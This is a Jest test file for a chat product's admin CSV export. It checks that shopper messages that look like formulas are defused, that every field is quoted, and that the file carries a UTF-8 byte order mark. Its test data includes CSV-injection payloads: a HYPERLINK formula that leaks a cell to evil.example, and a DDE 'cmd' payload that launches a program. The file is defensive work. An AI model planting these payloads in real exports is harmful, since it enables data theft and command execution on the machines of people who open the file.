/**
 * The admin's CSV export against the real server: shopper words that a spreadsheet would run as a
 * formula arrive defused (a leading `'`), every field is quoted (a quote, comma or line break in the
 * words cannot start a new cell or row), and the download's name and type are fixed by the server.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { runExport } from '../../src/cli/export-command';
import { ChatClient } from '../helpers/chat-client';
import { useConsole } from './use-console';

const BOM = [0xef, 0xbb, 0xbf];
/** The bytes as they are, the byte order mark included (`Response.text()` would drop it). */
const utf8 = (bytes: Uint8Array): string => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

/** RFC 4180 fields of a CSV text (quoted fields, `""` for a quote), read independently of the server's code. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] !== '"') throw new Error(`unquoted field at ${i}: ${JSON.stringify(text.slice(i, i + 20))}`);
    let field = '';
    for (i++; ; i++) {
      if (text[i] === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (text[i] === '"') break;
      else field += text[i];
    }
    row.push(field);
    i++;
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length) rows.push(row);
  return rows;
}

describe('CSV export', () => {
  const t = useConsole('admin');

  it('should defuse formulas, keep each message in its own quoted cell, and fix the file name (zh, en)', async () => {
    const marker = `csvmark${Date.now()}`;
    const texts = [...FORMULAS, `${marker} 你好, "朋友"\r\nnext,row`, `${marker} hello "friend", bye`];
    const shopper = await ChatClient.connect(t.server.url, { locale: 'zh' });
    try {
      for (const text of texts) await shopper.say(text);
      await shopper.say(marker);
    } finally {
      shopper.close();
    }
    const res = await t.console.download(`/api/staff/export?format=csv&text=${marker}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="kefu-transcripts-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(res.text.replace(/^\uFEFF/, ''));
    const header = rows[0];
    const width = header.length;
    expect(rows.every((r) => r.length === width)).toBe(true);
    const cells = rows.slice(1).flat();
    // No cell starts the way a spreadsheet formula does.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    for (const f of FORMULAS) expect([f, cells.includes(`'${f}`)]).toEqual([f, true]);
    expect(cells).toContain(`${marker} 你好, "朋友"\r\nnext,row`);
    expect(cells).toContain(`${marker} hello "friend", bye`);
  });

  it('should start the CSV download with a UTF-8 byte order mark, so spreadsheet programs on Chinese Windows read 中文 and English alike, and not the JSON Lines one', async () => {
    const marker = `bommark${Date.now()}`;
    const shopper = await ChatClient.connect(t.server.url, { locale: 'zh' });
    try {
      await shopper.say(`${marker} 我的订单还没到`);
      await shopper.say(`${marker} where is my parcel`);
    } finally {
      shopper.close();
    }
    const download = (format: string) =>
      fetch(`${t.server.url}/api/staff/export?format=${format}&text=${marker}`, { headers: { Cookie: t.console.cookie } });
    const csv = new Uint8Array(await (await download('csv')).arrayBuffer());
    expect([...csv.slice(0, 3)]).toEqual(BOM);
    const text = utf8(csv);
    expect(text.startsWith('\uFEFF"conversationId",')).toBe(true);
    expect(text.slice(1).includes('\uFEFF')).toBe(false);
    expect(text).toContain(`${marker} 我的订单还没到`);
    expect(text).toContain(`${marker} where is my parcel`);
    const jsonl = new Uint8Array(await (await download('jsonl')).arrayBuffer());
    expect(jsonl[0]).toBe('{'.charCodeAt(0));
  });

  it('should start the CSV of `kefu export` with the byte order mark too, zh and en', async () => {
    const marker = `climark${Date.now()}`;
    const since = new Date(Date.now() - 1000).toISOString();
    const shopper = await ChatClient.connect(t.server.url, { locale: 'en' });
    try {
      await shopper.say(`${marker} 退货政策是什么`);
      await shopper.say(`${marker} what is the return policy`);
    } finally {
      shopper.close();
    }
    const out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'kefu-export-')), 'out.csv');
    const dataDir = process.env.KEFU_DATA_DIR;
    const stderr = jest.spyOn(process.stderr, 'write').mockImplementation(() => true);
    process.env.KEFU_DATA_DIR = t.server.dataDir;
    try {
      expect(await runExport(['--conversations', '--since', since, '--format', 'csv', '--out', out])).toBe(0);
    } finally {
      stderr.mockRestore();
      if (dataDir === undefined) delete process.env.KEFU_DATA_DIR;
      else process.env.KEFU_DATA_DIR = dataDir;
    }
    const bytes = new Uint8Array(fs.readFileSync(out));
    fs.rmSync(path.dirname(out), { recursive: true, force: true });
    expect([...bytes.slice(0, 3)]).toEqual(BOM);
    const text = utf8(bytes);
    expect(parseCsv(text.slice(1))[0][0]).toBe('conversationId');
    expect(text).toContain(`${marker} 退货政策是什么`);
    expect(text).toContain(`${marker} what is the return policy`);
  });
});
